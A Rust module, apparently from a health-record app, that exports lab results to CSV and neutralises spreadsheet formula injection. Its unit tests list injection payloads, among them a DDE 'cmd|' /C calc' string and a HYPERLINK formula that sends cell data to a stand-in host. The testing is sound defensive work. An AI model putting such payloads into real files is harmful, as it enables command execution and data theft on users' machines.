//! The file of values: one line a value.

use wholechart_record::{analyte_of_thing, unit_of, unit_shown};
use wholechart_store::ListRow;

use super::view::range;
use crate::{
    providers::{Names, name},
    said::{Tellers, Voice},
    words::{Speech, dates},
};

/// Headings of the file's columns, in the word catalogue.
pub(super) const COLUMNS: [&str; 13] = [
    "column-test",
    "column-code",
    "column-date",
    "column-time",
    "column-value",
    "column-figure",
    "column-unit",
    "column-converted-from",
    "column-range",
    "column-flag",
    "column-status",
    "column-providers",
    "column-record",
];

/// One value of a file. Text as it was sent, and figure and unit apart; a blood pressure has no single figure.
pub(super) fn line(speech: &Speech<'_>, thing: &str, one: &ListRow, providers: &Names) -> Vec<String> {
    let row = &one.row;
    let quantity = one.more.measure.quantity.as_ref();
    // A unit that people cannot read is written as its one name, and the sender's beside it when it differs.
    let unit = quantity.and_then(unit_of);
    let sent_unit = quantity.and_then(|q| q.unit.clone().or_else(|| q.code.clone()));
    let shown = unit.as_deref().map(unit_shown).unwrap_or_default();
    let figure = quantity.and_then(|q| {
        Some(format!("{}{}", q.comparator.as_deref().unwrap_or_default(), q.value.as_deref()?))
    });
    let code = one.more.code.as_ref().map(|code| format!("{} {}", code.system, code.code));
    let known = analyte_of_thing(thing).is_some() || one.more.code.is_some();
    let day_only = row.date.as_ref().is_none_or(|date| date.day_only);
    vec![
        speech.called(row.kind, &row.title, &row.said.codes),
        code.filter(|_| known).unwrap_or_default(),
        row.day.map(dates::key).unwrap_or_default(),
        row.second_of_day.filter(|_| !day_only).map(clock).unwrap_or_default(),
        row.value.as_ref().map(|found| speech.found(found)).unwrap_or_default(),
        figure.unwrap_or_default(),
        shown.to_owned(),
        sent_unit.filter(|sent| sent != shown).unwrap_or_default(),
        range(one).unwrap_or_default(),
        row.flag.map(|flag| speech.get(&format!("flag-{}", flag.as_str()))).unwrap_or_default(),
        Voice { speech: *speech, tellers: Tellers::Names(providers) }.status_line(row).unwrap_or_default(),
        row.sources.iter().map(|id| name(providers, id)).collect::<Vec<_>>().join("; "),
        row.id.to_string(),
    ]
}

/// As spreadsheets of all regions read it.
fn clock(second_of_day: u32) -> String {
    format!("{:02}:{:02}", second_of_day / 3600, second_of_day / 60 % 60)
}

/// RFC 4180 with a byte order mark, so that spreadsheets read accents; a cell that a spreadsheet would run as a formula
/// is made text.
pub(crate) fn write(heads: &[String], rows: &[Vec<String>]) -> Result<Vec<u8>, csv::Error> {
    let mut writer = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer("\u{feff}".as_bytes().to_vec());
    writer.write_record(heads)?;
    for row in rows {
        writer.write_record(row.iter().map(|cell| harmless(cell)))?;
    }
    writer.into_inner().map_err(|error| error.into_error().into())
}

/// A cell that a spreadsheet may run is made text. A sign before nothing but a figure stays: it is a figure, and runs nothing.
fn harmless(cell: &str) -> String {
    // Spreadsheets look past what is not seen, and take full-width signs for their narrow ones.
    let begins = cell.trim_start_matches(|c: char| c.is_whitespace() || c.is_control() || c == '\u{feff}');
    let odd = begins.len() != cell.len() && cell.starts_with(['\t', '\r', '\n']);
    let runs = match begins.chars().next() {
        Some('=' | '@' | '＝' | '＠' | '＋' | '－' | '|' | '%') => true,
        Some('-' | '+') => !is_figure(&begins[1..]),
        _ => odd,
    };
    if runs { format!("'{cell}") } else { cell.to_owned() }
}

/// Digits with at most one point, and an exponent at most.
fn is_figure(text: &str) -> bool {
    text.starts_with(|c: char| c.is_ascii_digit() || c == '.') && text.parse::<f64>().is_ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_that_a_spreadsheet_runs_stays_as_it_is() {
        for run in [
            "=1+1",
            "@SUM(A1)",
            "-cmd",
            "-2+3+cmd|' /C calc'!A0",
            "+1+HYPERLINK(\"http://x/?\"&A2,\"r\")",
            "--1+1",
            "+-1",
            "-1-1",
            "-inf",
            "+NaN",
            " =1+1",
            "\u{feff}=1+1",
            "\t=1+1",
            "\r\n@x",
            "＝1+1",
            "＋1+1",
            "|calc",
            "%0a=1",
        ] {
            assert_eq!(harmless(run), format!("'{run}"), "{run}");
        }
        for figure in ["-0.5", "+3", "-.5", "-1.5e-3", "0.5", "<5", "4-6", "a=b", "", "-"] {
            let kept = if figure == "-" { "'-" } else { figure };
            assert_eq!(harmless(figure), kept, "{figure}");
        }
    }

    #[test]
    fn cells_are_quoted_and_never_run() {
        let row = ["=1+1", "@SUM(A1)", "-0.5", "-cmd", "say \"hi\", she", "<5", "Größe"].map(str::to_owned);
        let bytes = write(
            &["a".to_owned(), "b".into(), "c".into(), "d".into(), "e".into(), "f".into(), "g".into()],
            &[row.to_vec()],
        )
        .unwrap();
        let text = String::from_utf8(bytes).unwrap();
        assert_eq!(
            text,
            "\u{feff}a,b,c,d,e,f,g\r\n'=1+1,'@SUM(A1),-0.5,'-cmd,\"say \"\"hi\"\", she\",<5,Größe\r\n"
        );
    }
}
